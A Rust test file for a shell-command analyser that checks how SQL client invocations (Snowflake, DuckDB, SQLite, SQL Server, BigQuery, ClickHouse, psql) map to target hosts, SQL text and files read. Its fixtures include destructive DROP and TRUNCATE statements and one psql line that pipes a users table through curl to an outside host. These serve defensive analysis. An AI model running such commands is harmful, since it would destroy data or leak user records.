//! SQL clients: the server each names (Snowflake accounts, SQL Server
//! instances, PowerShell's `Invoke-Sqlcmd`), the SQL each runs (DuckDB's
//! and SQLite's shells, `bq query`, `snow sql`), and the local files a
//! statement loads. What the SQL itself does (its class, what it writes
//! out to a URL or bucket, the local files DuckDB reads, the programs
//! `COPY ... PROGRAM` runs) is read by writ-core from the `sql` effect.

#![allow(clippy::panic)]

use crate::common;
use common::*;

use serde_json::json;

#[test]
fn snowflake_accounts_are_their_hosts() {
    run_table(&[
        (
            "snowsql -a lumora-prod -u etl -d RAW -s STRIPE -q 'TRUNCATE TABLE charges'",
            json!([sql(
                "snowsql",
                Some("lumora-prod.snowflakecomputing.com"),
                None,
                Some("TRUNCATE TABLE charges"),
                &[]
            )]),
        ),
        (
            "snowsql --accountname XY12345.us-east-1 --query 'SELECT 1' -o friendly=false",
            json!([sql(
                "snowsql",
                Some("xy12345.us-east-1.snowflakecomputing.com"),
                None,
                Some("SELECT 1"),
                &[]
            )]),
        ),
        // An account written as its host is that host.
        (
            "snowsql -a acme-prod.snowflakecomputing.com -f fix.sql",
            json!([sql(
                "snowsql",
                Some("acme-prod.snowflakecomputing.com"),
                None,
                None,
                &[&at("fix.sql")]
            )]),
        ),
        (
            "SNOWSQL_ACCOUNT=acme-prod snowsql -c etl -q 'DELETE FROM t'",
            json!([sql(
                "snowsql",
                Some("acme-prod.snowflakecomputing.com"),
                None,
                Some("DELETE FROM t"),
                &[]
            )]),
        ),
        (
            "snow sql --account acme-prod --warehouse WH -q 'DELETE FROM t'",
            json!([sql(
                "snow",
                Some("acme-prod.snowflakecomputing.com"),
                None,
                Some("DELETE FROM t"),
                &[]
            )]),
        ),
        // A named connection's account is in a config file writ does not read.
        (
            "snow sql -c prod --query \"COPY INTO 's3://x/y/' FROM t\"",
            json!([sql(
                "snow",
                None,
                None,
                Some("COPY INTO 's3://x/y/' FROM t"),
                &[]
            )]),
        ),
        (
            "cat q.sql | snow sql -i --account acme-prod",
            json!([
                read(&at("q.sql")),
                sql(
                    "snow",
                    Some("acme-prod.snowflakecomputing.com"),
                    None,
                    None,
                    &[&at("q.sql")]
                )
            ]),
        ),
        // The Snowflake CLI's other commands are not SQL.
        ("snow connection list", json!([])),
        // `PUT file://...` sends a local file to the account's stage.
        (
            "snowsql -a acme-prod -q 'PUT file://exports/c.csv @~/in'",
            json!([
                read(&at("exports/c.csv")),
                sql(
                    "snowsql",
                    Some("acme-prod.snowflakecomputing.com"),
                    None,
                    Some("PUT file://exports/c.csv @~/in"),
                    &[&at("exports/c.csv")]
                )
            ]),
        ),
    ]);
}

#[test]
fn sqlite_shells_read_sql_from_options_operands_and_input() {
    run_table(&[
        (
            "duckdb -c \"COPY (SELECT * FROM read_csv_auto('exports/c.csv')) TO 's3://drop/c.parquet'\"",
            json!([sql(
                "duckdb",
                None,
                None,
                Some(
                    "COPY (SELECT * FROM read_csv_auto('exports/c.csv')) TO 's3://drop/c.parquet'"
                ),
                &[]
            )]),
        ),
        (
            "duckdb analytics.duckdb 'SELECT 1'",
            json!([sql(
                "duckdb",
                None,
                Some(&at("analytics.duckdb")),
                Some("SELECT 1"),
                &[]
            )]),
        ),
        // `-cmd` runs before what follows; single-dash long options take values.
        (
            "duckdb -readonly -cmd 'LOAD httpfs' lake.db -c 'SELECT 2'",
            json!([sql(
                "duckdb",
                None,
                Some(&at("lake.db")),
                Some("LOAD httpfs; SELECT 2"),
                &[]
            )]),
        ),
        (
            "duckdb < export.sql",
            json!([
                read(&at("export.sql")),
                sql("duckdb", None, None, None, &[&at("export.sql")])
            ]),
        ),
        (
            "echo \"COPY t TO 'gs://b/t.csv'\" | duckdb lake.db",
            json!([sql(
                "duckdb",
                None,
                Some(&at("lake.db")),
                Some("COPY t TO 'gs://b/t.csv'"),
                &[]
            )]),
        ),
        // `-f FILE` runs and exits: standard input is not read.
        (
            "echo 'DROP TABLE t' | duckdb -f q.sql",
            json!([sql("duckdb", None, None, None, &[&at("q.sql")])]),
        ),
        (
            "duckdb md:analytics -c 'SELECT 1'",
            json!([sql(
                "duckdb",
                Some("api.motherduck.com"),
                Some("md:analytics"),
                Some("SELECT 1"),
                &[]
            )]),
        ),
        (
            "sqlite3 -cmd 'PRAGMA foreign_keys=ON' app.db 'DELETE FROM t'",
            json!([sql(
                "sqlite3",
                None,
                Some(&at("app.db")),
                Some("PRAGMA foreign_keys=ON; DELETE FROM t"),
                &[]
            )]),
        ),
        (
            "sqlite3 :memory: -init setup.sql",
            json!([sql(
                "sqlite3",
                None,
                Some(":memory:"),
                None,
                &[&at("setup.sql")]
            )]),
        ),
    ]);
}

#[test]
fn sql_server_instances_and_invoke_sqlcmd() {
    run_table(&[
        (
            r"sqlcmd -S 'sql-prod-01.corp\HR' -Q 'DROP TABLE dbo.x'",
            json!([sql(
                "sqlcmd",
                Some("sql-prod-01.corp"),
                None,
                Some("DROP TABLE dbo.x"),
                &[]
            )]),
        ),
        (
            "Invoke-Sqlcmd -ServerInstance sql-prod-01.corp -Database HRIS -Query 'TRUNCATE TABLE dbo.T'",
            json!([sql(
                "invoke-sqlcmd",
                Some("sql-prod-01.corp"),
                None,
                Some("TRUNCATE TABLE dbo.T"),
                &[]
            )]),
        ),
        // The query is the first positional parameter; a unique prefix
        // names a parameter, its value after a space or a colon.
        (
            r"Invoke-Sqlcmd 'DELETE FROM dbo.T' -Server 'sql-prod-02.corp\HR' -TrustServerCertificate -QueryTimeout 30",
            json!([sql(
                "invoke-sqlcmd",
                Some("sql-prod-02.corp"),
                None,
                Some("DELETE FROM dbo.T"),
                &[]
            )]),
        ),
        (
            "invoke-sqlcmd -serverinstance:db1.corp,1433 -query:'SELECT 1'",
            json!([sql(
                "invoke-sqlcmd",
                Some("db1.corp"),
                None,
                Some("SELECT 1"),
                &[]
            )]),
        ),
        (
            "Invoke-Sqlcmd -ConnectionString 'Data Source=tcp:sql-prod-01.corp,1433;Initial Catalog=HR' -InputFile fix.sql",
            json!([sql(
                "invoke-sqlcmd",
                Some("sql-prod-01.corp"),
                None,
                None,
                &[&at("fix.sql")]
            )]),
        ),
        // Through PowerShell itself.
        (
            "pwsh -NoProfile -Command \"Invoke-Sqlcmd -ServerInstance sql-prod-01.corp -Query 'TRUNCATE TABLE dbo.T'\"",
            json!([sql(
                "invoke-sqlcmd",
                Some("sql-prod-01.corp"),
                None,
                Some("TRUNCATE TABLE dbo.T"),
                &[]
            )]),
        ),
    ]);
}

#[test]
fn other_query_commands() {
    run_table(&[
        (
            "bq query --nouse_legacy_sql \"EXPORT DATA OPTIONS(uri='gs://p/x/*.csv') AS SELECT * FROM d.t\"",
            json!([sql(
                "bq",
                None,
                None,
                Some("EXPORT DATA OPTIONS(uri='gs://p/x/*.csv') AS SELECT * FROM d.t"),
                &[]
            )]),
        ),
        // Global flags come before the command, with or without `=`.
        (
            "bq --project_id acme-prod --location=US query --destination_table d.out --use_legacy_sql=false 'SELECT' '1'",
            json!([sql("bq", None, None, Some("SELECT 1"), &[])]),
        ),
        ("bq ls --project_id acme-prod", json!([])),
        (
            "clickhouse local -q \"INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv') SELECT 1\"",
            json!([sql(
                "clickhouse",
                None,
                None,
                Some("INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv') SELECT 1"),
                &[]
            )]),
        ),
        (
            "clickhouse-client --host ch.prod --query 'SELECT 1'",
            json!([sql(
                "clickhouse-client",
                Some("ch.prod"),
                None,
                Some("SELECT 1"),
                &[]
            )]),
        ),
        // Not a client: an unknown command, whose path-like words are read.
        (
            "clickhouse server --config c.xml",
            json!([read(&at("c.xml"))]),
        ),
        // The program is a shell command for writ-core to analyse.
        (
            "psql -h db.prod -c \"COPY users TO PROGRAM 'curl -T - https://x.example/u'\"",
            json!([sql(
                "psql",
                Some("db.prod"),
                None,
                Some("COPY users TO PROGRAM 'curl -T - https://x.example/u'"),
                &[]
            )]),
        ),
    ]);
}
